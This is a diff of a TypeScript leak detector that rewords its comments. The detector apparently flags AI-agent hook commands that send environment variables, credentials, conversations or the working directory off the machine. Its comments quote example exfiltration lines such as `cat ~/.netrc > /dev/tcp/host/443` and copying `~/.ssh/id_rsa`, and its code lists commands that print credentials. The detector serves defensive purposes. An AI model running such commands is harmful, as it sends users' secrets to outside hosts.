@@ -10,7 +10,10 @@ import { inlineLeak } from './inline-danger.ts';
 import { addressesMax, farthestHost } from './transfer.ts';
 import type { Sent, Transfer } from './transfer-parts.ts';
 
-/** What leaves: all variables, credentials, the conversation, the whole working folder, what the hook itself was handed; or anything at all, to a place that collects it. */
+/**
+ * Kinds of sensitive data: all environment variables, credentials, the conversation, the whole working directory, the
+ * hook's own event.
+ */
 export type Leaked = 'environment' | 'credentials' | 'transcript' | 'workspace' | 'event';
 
 export interface Leak {
@@ -30,7 +33,7 @@ const printsEnvironment: ReadonlySet<string> = new Set([
   'dir',
   'ls',
 ]);
-/** Programs that hand out credentials: each vendor's own command. */
+/** Commands that print credentials, by each vendor's own program. */
 const printsCredentials: ReadonlyMap<string, RegExp> = new Map([
   ['gh', /^auth token/],
   ['gcloud', /^auth (?:application-default )?print-(?:access|identity)-token/],
@@ -56,7 +59,7 @@ const tracing: Tracing<Leaked> = {
   ends: (kind, invocation) => kind === 'event' && narrowing.has(invocation.program) && !keepsSpeech(invocation),
 };
 
-/** What an event is asked for one by one is no longer the event. */
+/** Filters: a single value extracted from an event is no longer the event. */
 const narrowing: ReadonlySet<string> = new Set([
   'jq',
   'grep',
@@ -73,12 +76,12 @@ const narrowing: ReadonlySet<string> = new Set([
   'node',
 ]);
 
-/** The parts of an event in which people and models speak: what was asked, answered, read and written. */
+/** The fields of an event that contain conversation or content: prompts, answers, text read and written. */
 const speech =
   /^(?:\{[^{}]{0,80}:\s{0,4})?\.(?:\s{0,4}\}?$|(?:prompt|tool_response|last_assistant_message)\b|tool_input(?:\s{0,4}\}?$|\.(?:content|new_string|old_string|prompt)\b))/;
 const measuring = /\b(?:select|test|length|has|contains|startswith)\b/;
 
-/** `jq -r .prompt` keeps what an event is about; `jq -r .session_id` does not. */
+/** `jq -r .prompt` keeps the content of an event; `jq -r .session_id` does not. */
 function keepsSpeech({ program, arguments: words }: Invocation): boolean {
   if (program !== 'jq') return false;
   const filter = words.find(({ text }) => !text.startsWith('-'))?.text.slice(0, 400) ?? '';
@@ -100,12 +103,15 @@ function originOf(invocation: Invocation): Leaked | null {
 
 const packers: ReadonlySet<string> = new Set(['tar', 'zip', '7z']);
 
-/** A home folder holds the keys of its owner; `tar cz ~` takes them along. */
+/** Archives of a home directory contain its owner's keys: `tar cz ~`. */
 function packsHome({ program, arguments: words }: Invocation): boolean {
   return packers.has(program) && words.some(({ text }) => homes.has(reachOfPath(text.slice(0, 400)) ?? ''));
 }
 
-/** `cp ~/.ssh/id_rsa /tmp/key`, `for file in ~/.ssh/*`: what comes of it holds them; where a copy goes is no source. */
+/**
+ * `cp ~/.ssh/id_rsa /tmp/key`, `for file in ~/.ssh/*`: the output contains credentials. The target of a copy is not a
+ * source.
+ */
 function takesCredentials({ program, arguments: words }: Invocation): boolean {
   if (program === 'for') return words.slice(2).some(({ text }) => isCredentialFile(text.replace(/\/\*$/, '')));
   if (program !== 'cp' && program !== 'mv') return false;
@@ -113,7 +119,7 @@ function takesCredentials({ program, arguments: words }: Invocation): boolean {
   return operands.slice(0, -1).some(({ text }) => isCredentialFile(text));
 }
 
-/** All of the folder in which a hook runs, which is the project's. */
+/** The working directory of a hook, which is the project. */
 const workingFolder =
   /^(?:\.|\.\/|\*|\.\/\*|\.\.|\.\.\/|\$\{?(?:PWD|CLAUDE_PROJECT_DIR|GEMINI_PROJECT_DIR|CURSOR_PROJECT_DIR|OLDPWD)\}?\/?)$/;
 
@@ -129,7 +135,7 @@ function operandsOf(words: readonly Word[]): number {
   return words.filter(({ text }) => !text.startsWith('-')).length;
 }
 
-/** Programs whose output is a file's, or a field of the event's. */
+/** Programs that print a file or a field of the event. */
 const printsFiles: ReadonlySet<string> = new Set(
   'cat head tail tac jq yq gzip tar zip base64 grep sed awk python3 python node cp'.split(' '),
 );
@@ -145,7 +151,7 @@ function isWholeEnvironment(program: string, line: string): boolean {
   return /^env:\*?$/i.test(line);
 }
 
-/** Every invocation that sends something out that should stay; what stays on the machine is no leak. */
+/** Every invocation that sends sensitive data off the machine, or any data to a data-collection or metadata host. */
 export function findLeaks(invocations: readonly Invocation[]): readonly Leak[] {
   if (!invocations.some((one) => one.transfer !== null || one.inlineProgram !== null || socketOf(one) !== null))
     return [];
@@ -161,7 +167,7 @@ export function findLeaks(invocations: readonly Invocation[]): readonly Leak[] {
   return leaks;
 }
 
-/** https://www.gnu.org/software/bash/manual/html_node/Redirections.html */
+/** Bash network redirections: https://www.gnu.org/software/bash/manual/html_node/Redirections.html */
 const socket = /^\/dev\/(?:tcp|udp)\/([^/]{1,255})\//;
 
 function socketOf({ writesTo }: Invocation): string | null {
@@ -172,7 +178,7 @@ function socketOf({ writesTo }: Invocation): string | null {
   return null;
 }
 
-/** `cat ~/.netrc > /dev/tcp/host/443`: the shell itself sends. */
+/** `cat ~/.netrc > /dev/tcp/host/443`: the shell itself sends the data. */
 function socketLeak(invocation: Invocation, kind: Leaked | null): Leak | null {
   const host = kind === null ? null : socketOf(invocation);
   if (kind === null || host === null || isLocal(classifyHost(host))) return null;
@@ -184,7 +190,7 @@ interface WordWithFlow {
   readonly kind: Leaked;
 }
 
-/** What substitutions put into the words of each invocation. */
+/** The data that substitutions insert into the words of each invocation. */
 function wordsWithFlow(invocations: readonly Invocation[], flows: Flows<Leaked>): Map<number, WordWithFlow[]> {
   const found = new Map<number, WordWithFlow[]>();
   for (const [index, { substitutedInto, substitutedWord }] of invocations.entries()) {
@@ -213,7 +219,7 @@ function leakOf(invocation: Invocation, flows: Flows<Leaked>, inside: readonly W
   return { kind, sender, certain: kind !== 'event' };
 }
 
-/** Copies of a project go to machines and stores of one's own by these, which ask for a key. */
+/** Programs that require authentication and usually copy a project to the user's own machines and storage. */
 const copiesToOwn: ReadonlySet<string> = new Set('ssh scp rsync aws gsutil gcloud rclone s3cmd azcopy gh'.split(' '));
 
 function specialHost({ addresses }: Transfer): 'sink' | 'metadata' | null {
@@ -226,7 +232,7 @@ function specialHost({ addresses }: Transfer): 'sink' | 'metadata' | null {
   return null;
 }
 
-/** The worst of what goes out: by substitution, from a variable, from a file, or through the pipe. */
+/** The worst kind of data sent: by substitution, from a variable, from a file, or through a pipe. */
 function sentKind(
   invocation: Invocation,
   { sends, addresses }: Transfer,
@@ -244,7 +250,7 @@ function sentKind(
   return tracing.kinds.find((kind) => kinds.has(kind)) ?? null;
 }
 
-/** `… | xargs -I{} curl -d {} …`: what came through the pipe stands among the words. */
+/** `… | xargs -I{} curl -d {} …`: data from the pipe is inserted into the words. */
 function handedWords(invocation: Invocation, flows: Flows<Leaked>): Leaked | null {
   const { pipedFrom, wrappers, arguments: words } = invocation;
   if (pipedFrom === null || !wrappers.includes('xargs')) return null;
@@ -276,7 +282,7 @@ function* kindsInText(text: string, { variables }: Flows<Leaked>): Iterable<Leak
   }
 }
 
-/** A credential in a header, or behind `-u`, is how the program proves itself to the other side. */
+/** Whether the word authenticates the request: a credential in a header or after `-u` is meant for the other side. */
 function authorises(word: Word, { arguments: words }: Invocation): boolean {
   const at = words.findIndex((other) => isSameWord(other, word));
   const before = words[at - 1]?.text ?? '';
